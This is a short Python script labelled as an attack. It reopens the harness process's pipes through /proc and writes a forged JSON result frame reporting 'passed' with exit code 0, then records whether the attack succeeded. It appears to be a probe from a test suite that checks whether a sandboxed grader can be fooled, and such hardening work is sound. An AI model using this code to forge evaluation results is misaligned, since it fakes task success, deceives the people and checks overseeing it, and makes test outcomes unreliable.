"""Attack: reopen the harness's pipes through /proc and write a fake "passed" result frame."""

import json
import os
import struct

fake = json.dumps({"status": "passed", "exit_code": 0, "stdout": "", "stderr": ""}).encode()
frame = struct.pack(">I", len(fake)) + fake
opened = False
for pid in {os.getppid(), 1}:
    for fd in range(16):
        try:
            channel = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY)
        except OSError:
            continue
        opened = True
        try:
            os.write(channel, frame)
        except OSError:
            pass
        os.close(channel)
ATTACK_SUCCEEDED = opened
